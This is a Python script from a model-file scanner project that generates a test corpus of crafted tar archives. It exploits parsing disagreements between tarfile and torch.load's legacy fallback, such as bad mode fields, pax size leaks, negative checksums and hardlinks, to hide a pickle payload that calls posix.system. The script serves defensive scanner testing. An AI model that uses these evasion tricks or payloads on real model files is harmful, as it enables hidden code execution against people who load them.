#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
# Copyright (c) 2026 The mscan authors
"""Writes corpus/malicious/tar_rt_T*.tar: tars where a naive reader and CPython's tarfile (or
torch.load's fallback to the legacy stream when tarfile raises) disagree, each with a payload
torch.load would reach: a bad mode field in the first header (tarfile raises, torch reads the
header as a pickle), a pax header with no member after it, a pax size leaking into the next
extended header, a negative checksum, a global pax path/size, a bad header that ends the
archive before a decoy, a hard-linked 'storages', tar in zip in tar, and plain controls.
Found by a red-team pass. Standard library only; never unpickled. Run in corpus/malicious/ (T9, where torch reads the benign last of two
storages, belongs in corpus/benign/)."""
import gzip
import io
import pickle
import struct
import tarfile
import zipfile

def hdr(name=b'', size=0, typ=b'0', mode=b'0000644\0', link=b'', prefix=b'', chk=None, raw_size=None, extra=None, magic=b'ustar\x0000'):
    h = bytearray(512)
    h[0:len(name)] = name
    h[100:108] = mode.ljust(8, b'\0')[:8]
    h[108:116] = b'0000000\0'; h[116:124] = b'0000000\0'
    h[124:136] = raw_size if raw_size is not None else (b'%011o\0' % size)
    h[136:148] = b'00000000000\0'
    h[156:157] = typ
    h[157:157+len(link)] = link
    h[257:265] = magic
    h[345:345+len(prefix)] = prefix
    if extra:
        for off, b in extra: h[off:off+len(b)] = b
    h[148:156] = b' '*8
    if chk is None:
        s = sum(h); h[148:156] = b'%06o\0 ' % s
    else:
        h[148:156] = chk(h)
    return bytes(h)
def pad(d): return d + b'\0'*((-len(d)) % 512)
def member(name, data, typ=b'0', **kw): return hdr(name, len(data), typ, **kw) + pad(data)
def pax(recs, typ=b'x', name=b'././@PaxHeader', size=None):
    body = b''
    for k, v in recs:
        r = b' ' + k + b'=' + v + b'\n'
        n = len(r) + 1
        while len(str(n)) + len(r) != n: n += 1
        body += str(n).encode() + r
    return hdr(name, len(body) if size is None else size, typ) + pad(body)
END = b'\0'*1024
def gen(PAY0, sfx):
    def storages(first):   # storages member whose first pickle is `first`
        return first + pickle.dumps([], 2)
    files = {}
    # T0 control: plain legacy tar with payload in storages
    files['T0_control.tar'] = member(b'storages', storages(PAY0)) + END
    # T1: first header has invalid mode ('9') -> tarfile ReadError at offset 0 -> torch falls back to pickle.load at offset 0 (name field)
    files['T1_badmode_fallback.tar'] = member(PAY0, b'', mode=b'0000999\0') + END
    # T2: regular member, then a pax 'x' header followed by end of archive -> SubsequentHeaderError -> ReadError -> pickle fallback at offset 0
    files['T2_pax_then_eof.tar'] = member(PAY0, b'') + pax([(b'comment', b'x')]) + END
    # T3: x1(size=S) then x2(own size 512): mscan uses S for x2's data
    S = 2048
    decoy = hdr(b'pad', 0) + b'\0'*2560  # F_decoy at F_real data offset 1024, its data (2048 per pax size) zeros
    freal_data = storages(PAY0).ljust(1024, b'\0') + decoy
    freal_data = freal_data[:S] if len(freal_data) >= S else freal_data.ljust(S, b'\0')
    t3 = pax([(b'size', str(S).encode())]) + pax([(b'comment', b'hello')]) + hdr(b'storages', S) + freal_data
    t3 = t3 + b'\0'*((-len(t3))%512) + b'\0'*4096
    files['T3_pax_size_leak.tar'] = t3
    # T4: second header with a negative checksum (signed sum negative) -> mscan stops, tarfile continues
    def negchk(h):
        s = sum((b - 256 if b > 127 else b) for b in h)
        assert s < 0, s
        return (b'-%o' % (-s)).ljust(7, b'\0') + b' '
    X=b'\x80'
    ff = [(500, X*12), (265, X*64), (345+1, X*154), (157+1, X*99), (108, b'\0'+X*7), (116, b'\0'+X*7), (136, b'\0'+X*11), (329, b'\0'+X*7), (337, b'\0'+X*7)]
    h4 = hdr(b'storages', len(storages(PAY0)), mode=b'\0'+X*7, chk=negchk, extra=ff+[(9, b'\0'+X*90)], magic=X*8)
    files['T4_negchk.tar'] = member(b'sys_info', pickle.dumps({}, 2)) + h4 + pad(storages(PAY0)) + END
    # T8: global 'g' header path=storages,size=1024: applied by tarfile to every later builtin member; mscan ignores it
    t8 = pax([(b'path', b'storages'), (b'size', b'1024')], typ=b'g', name=b'pax_global_header')
    t8 += hdr(b'a', 0)                                  # tarfile: 'storages', size 1024 -> reads the next two blocks
    t8 += pax([(b'path', b'other')], name=PAY0)         # 'x' header whose name field is the pickle
    t8 += hdr(b'b', 0) + b'\0'*1024                      # gets global size 1024 (x copies global) -> 1024 data
    t8 += END
    files['T8_global_path.tar'] = t8
    # T6: hardlink 'storages' -> 'x'; x holds storages layout (payload in the views pickle after raw bytes)
    import struct as _s
    lay = pickle.dumps(1,2) + b"\x80\x02(X\x01\x00\x00\x000X\x03\x00\x00\x00cpuctorch\nFloatStorage\nt." + _s.pack('<q', 2) + b'\x80\x02\x2e\x2e\x2e\x2e\x2e\x2e\x2e\x2e' + PAY0
    files['T6_hardlink.tar'] = member(b'x', lay) + hdr(b'storages', 0, typ=b'1', link=b'x') + END
    for n, d in files.items(): open('tar_rt_' + n.replace('.tar', sfx + '.tar'), 'wb').write(d)
gen(b"cposix\nsystem\n(S'id'\ntR.", "")
def gen2(PAY0, sfx):
    f = {}
    lay = pickle.dumps(1,2) + pickle.dumps(('0','cpu',None),2).replace(b'N\x87', b'ctorch\nFloatStorage\n\x87') + struct.pack('<q', 2) + b'\x02'*8 + PAY0
    f['T6_hardlink.tar'] = member(b'x', lay) + hdr(b'storages', 0, typ=b'1', link=b'x') + END
    # T5: storages (payload in views pickle) ; header with invalid mode (tarfile stops silently) ; decoy storages (benign)
    good = pickle.dumps(0,2) + pickle.dumps([],2)
    f['T5_badmode_stop.tar'] = member(b'storages', lay) + member(b'junk', b'', mode=b'9\0') + member(b'storages', good) + END
    # T9: duplicate storages, first holds payload in views pickle (mscan parses only the last as torch)
    f['T9_dup_first.tar'] = member(b'storages', lay) + member(b'storages', good) + END
    # T10 gzip of control tar
    f['T10_control.tar.gz'] = gzip.compress(member(b'storages', PAY0 + pickle.dumps([],2)) + END)
    # T11 tar in zip in tar
    zb = io.BytesIO(); z = zipfile.ZipFile(zb, 'w'); z.writestr('inner.tar', member(b'storages', PAY0) + END); z.close()
    f['T11_tar_zip_tar.tar'] = member(b'a.zip', zb.getvalue()) + END
    for n, d in f.items(): open('tar_rt_' + n.replace('.tar', sfx + '.tar'), 'wb').write(d)
gen2(b"cposix\nsystem\n(S'id'\ntR.", "")
